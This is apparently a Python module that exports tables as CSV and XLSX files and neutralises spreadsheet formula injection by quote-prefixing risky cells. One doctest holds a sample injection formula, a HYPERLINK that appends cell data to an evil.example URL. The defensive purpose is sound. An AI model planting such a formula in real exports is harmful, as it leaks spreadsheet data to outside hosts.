"""Every table graphapp writes to a file: the one CSV and XLSX writer.

A :class:`Table` is a name, its columns and rows of typed cells (text, numbers, dates).
The files people open in a spreadsheet program come from :func:`table_file`:

- **XLSX** (:func:`xlsx_bytes`, openpyxl): one sheet per table, numbers as numbers,
  dates as dates, a bold, frozen header row with a filter. Text is always written as
  text, never as a formula; text that begins with a formula character also carries
  Excel's quote prefix (what Excel stores when a person types ``'=…``), so it stays text
  even when the cell is edited, and its value is exactly the data.
- **CSV** (:func:`csv_bytes`): UTF-8 with a byte-order mark, in the reader's dialect —
  Swedish ``;`` between cells and a decimal comma (what Excel with Swedish regional
  settings splits on), English ``,`` and a decimal point; dates as ISO ``2016-06-01``.
  A CSV cell cannot say "this is text", so text beginning with ``=``, ``+``, ``-``,
  ``@``, tab, carriage return or line feed gets a leading ``'`` (:func:`neutralised`,
  as OWASP advises against CSV injection); numbers are numbers, so ``-5`` stays ``-5``.

:func:`machine_csv` writes the CSV that a program reads (``neo4j-admin database
import``, see :mod:`graphapp.exports`): plain ``,`` and ``\\n``, no BOM and nothing
neutralised, since a ``'`` there would be imported into the graph as part of the name.

>>> table = Table("T", [Column("Namn"), Column("Belopp", AMOUNT)], [["=1+1", -1500], ["Sunne", 2.5]])
>>> csv_bytes(table, "sv").decode("utf-8-sig")
"Namn;Belopp\\r\\n'=1+1;-1500\\r\\nSunne;2,5\\r\\n"
>>> csv_bytes(table, "en").decode("utf-8-sig").splitlines()[2]
'Sunne,2.5'
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal, cast

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell as XlsxCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "AMOUNT",
    "FORMATS",
    "MEDIA_TYPES",
    "Cell",
    "Column",
    "Table",
    "TableFormat",
    "csv_bytes",
    "machine_csv",
    "neutralised",
    "table_file",
    "xlsx_bytes",
]

Cell = str | int | float | dt.date | None
TableFormat = Literal["csv", "xlsx"]
FORMATS: tuple[TableFormat, ...] = ("csv", "xlsx")
MEDIA_TYPES: dict[TableFormat, str] = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
#: Excel's number format for whole kronor: thousands grouped as the reader's settings group them.
AMOUNT = "#,##0"

#: The first characters that make a spreadsheet program read a cell as a formula (OWASP's list, and line feed).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
#: (cell separator, decimal mark) of the CSV a reader of each language's spreadsheet settings expects.
_DIALECTS = {"sv": (";", ","), "en": (",", ".")}
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # characters XML 1.0 cannot carry
_XLSX_TEXT_MAX = 32_767  # characters in one cell
_SHEET_NAME_ILLEGAL = re.compile(r"[\[\]:*?/\\]")
_DATE_FORMAT = "yyyy-mm-dd"
_WIDTH_MAX = 60


@dataclass(frozen=True, slots=True)
class Column:
    """A column: its header (in the reader's language) and, for XLSX, a number format for its numbers."""

    header: str
    number_format: str | None = None


@dataclass(frozen=True, slots=True)
class Table:
    """``name`` (a sheet's name, or what a CSV file holds), ``columns`` and ``rows`` of :data:`Cell`."""

    name: str
    columns: Sequence[Column]
    rows: Sequence[Sequence[Cell]] = field(default_factory=list)


def neutralised(text: str) -> str:
    """``text`` with a leading ``'`` when it begins with a character that starts a formula.

    >>> neutralised('=HYPERLINK("http://evil.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    >>> neutralised("-"), neutralised("Sunne"), neutralised("")
    ("'-", 'Sunne', '')
    """
    return "'" + text if text.startswith(_FORMULA_START) else text


def table_file(tables: Sequence[Table], format: TableFormat, lang: str) -> bytes:
    """``tables`` as one file: an XLSX workbook with a sheet each, or the CSV of the one table."""
    if format == "xlsx":
        return xlsx_bytes(tables)
    if len(tables) != 1:
        raise ValueError(f"a CSV file holds one table, not {len(tables)}")
    return csv_bytes(tables[0], lang)


# -- CSV -------------------------------------------------------------------------


def csv_bytes(table: Table, lang: str) -> bytes:
    """The CSV of ``table`` for a spreadsheet program with ``lang``'s settings (see the module's notes)."""
    separator, decimal = _DIALECTS.get(lang, _DIALECTS["en"])
    out = io.StringIO()
    writer = csv.writer(out, delimiter=separator, lineterminator="\r\n")
    writer.writerow(neutralised(column.header) for column in table.columns)
    writer.writerows([_csv_cell(value, decimal) for value in row] for row in table.rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _csv_cell(value: Cell, decimal: str) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):  # not a Cell, but never written as 0/1
        return str(value).lower()
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value).replace(".", decimal) if math.isfinite(value) else ""
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralised(value)


def machine_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV text for a program: ``,`` and ``\\n``, no BOM, cells exactly as given (nothing neutralised)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


# -- XLSX ------------------------------------------------------------------------


def xlsx_bytes(tables: Sequence[Table]) -> bytes:
    """An XLSX workbook with one sheet per table (see the module's notes)."""
    workbook = Workbook(write_only=True)
    names: set[str] = set()
    for table in tables:
        sheet = workbook.create_sheet(_sheet_name(table.name, names))
        _write_sheet(sheet, table)
    if not tables:
        workbook.create_sheet("-")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _write_sheet(sheet: WriteOnlyWorksheet, table: Table) -> None:
    columns = len(table.columns)
    layout = cast(Worksheet, sheet)  # a write-only sheet has these too, set before its rows (the stubs leave them out)
    for index, width in enumerate(_widths(table), start=1):
        layout.column_dimensions[get_column_letter(index)].width = width
    if columns:
        sheet.freeze_panes = "A2"
        layout.auto_filter.ref = f"A1:{get_column_letter(columns)}{len(table.rows) + 1}"
    bold = Font(bold=True)
    header = []
    for column in table.columns:
        cell = WriteOnlyCell(sheet, value=_XML_ILLEGAL.sub("", column.header))
        cell.data_type = "s"
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    formats = [column.number_format for column in table.columns]
    for row in table.rows:
        sheet.append([_xlsx_cell(sheet, value, formats[i] if i < columns else None) for i, value in enumerate(row)])


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: Cell, number_format: str | None) -> XlsxCell | Cell:
    """What to append for ``value``: the value itself where openpyxl writes it as it is (empty, a plain
    number, text that cannot start a formula), else a cell with its type and format set."""
    if value is None or isinstance(value, bool):
        return None if value is None else str(value).lower()
    if isinstance(value, int | float):
        if isinstance(value, float) and not math.isfinite(value):
            return None
        if not number_format:
            return value
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = number_format
        return cell
    if isinstance(value, dt.datetime):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd hh:mm"
        return cell
    if isinstance(value, dt.date):  # a day is its midnight, shown without the time
        cell = WriteOnlyCell(sheet, value=dt.datetime.combine(value, dt.time()))
        cell.number_format = _DATE_FORMAT
        return cell
    text = _XML_ILLEGAL.sub("", value)
    if len(text) > _XLSX_TEXT_MAX:
        text = text[: _XLSX_TEXT_MAX - 1] + "…"
    if not text.startswith(_FORMULA_START):
        return text
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl takes a leading "=" for a formula: this text is text,
    cell.quotePrefix = True  # and stays text when a person edits it (Excel's own mark for '=…)
    return cell


def _widths(table: Table) -> list[float]:
    """Column widths in characters, from the header and the first rows, at most :data:`_WIDTH_MAX`."""
    widths = [len(column.header) + 2.0 for column in table.columns]
    for row in table.rows[:200]:
        for index, value in enumerate(row[: len(widths)]):
            shown = 10 if isinstance(value, dt.date) else len(str(value)) if value is not None else 0
            widths[index] = max(widths[index], shown + 2.0)
    return [min(width, _WIDTH_MAX) for width in widths]


def _sheet_name(name: str, taken: set[str]) -> str:
    """A sheet name Excel takes (at most 31 characters, none of ``[]:*?/\\``), unique in the workbook."""
    base = _SHEET_NAME_ILLEGAL.sub("-", _XML_ILLEGAL.sub("", name)).strip("'").strip()[:31] or "-"
    candidate, number = base, 2
    while candidate.lower() in taken:
        suffix = f" ({number})"
        candidate, number = base[: 31 - len(suffix)] + suffix, number + 1
    taken.add(candidate.lower())
    return candidate
